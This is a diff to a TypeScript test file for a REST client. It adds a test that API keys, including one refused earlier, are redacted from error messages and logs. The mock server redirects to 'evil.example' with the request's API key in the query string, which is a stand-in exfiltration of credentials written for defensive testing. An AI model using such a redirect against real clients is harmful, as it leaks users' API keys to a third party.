@@ -8,6 +8,8 @@ import {
   type RestClientOptions,
 } from '../../../src/main/services/feed/rest'
 import type { LogFields, Logger } from '../../../src/main/services/base/types'
+import { REDACTED } from '../../../src/main/services/base/key-scrub'
+import { SecretRedactor } from '../../../src/main/services/feed/redact'
 
 const KEY = 'k-SECRET-5f1e7c0a9b2d4e6f8a1c3e5g'
 
@@ -261,6 +263,24 @@ describe('REST client: typed errors', () => {
     expect(r.ok).toBe(false)
     expect(cap.lines.length).toBeGreaterThan(0)
     expectNoKey(cap, r)
+  })
+
+  it('scrubs every key the engine knows from an error text, a key refused before included', async () => {
+    // Well-formed, refused earlier (for its IP, say): the engine's redactor remembers it, and the venue quotes it.
+    const refused = 'sk_live_FFFFffff3333SECRETfar'
+    const s = await startServer((req, res) => {
+      res.writeHead(302, {
+        location: `http://evil.example/?k=${String(req.headers['x-api-key'])}&was=${refused}`,
+      })
+      res.end()
+    })
+    const secrets = new SecretRedactor()
+    secrets.remember(refused)
+    const { c, cap } = client(s, { scrub: (text) => secrets.redact(text) })
+    const r = await c.listEvents(KEY)
+    expect(!r.ok && r.error.message).toContain(`?k=${REDACTED}&was=${REDACTED}`)
+    expectNoKey(cap, r)
+    for (const text of [...cap.lines, JSON.stringify(r)]) expect(text).not.toContain(refused)
   })
 })
 
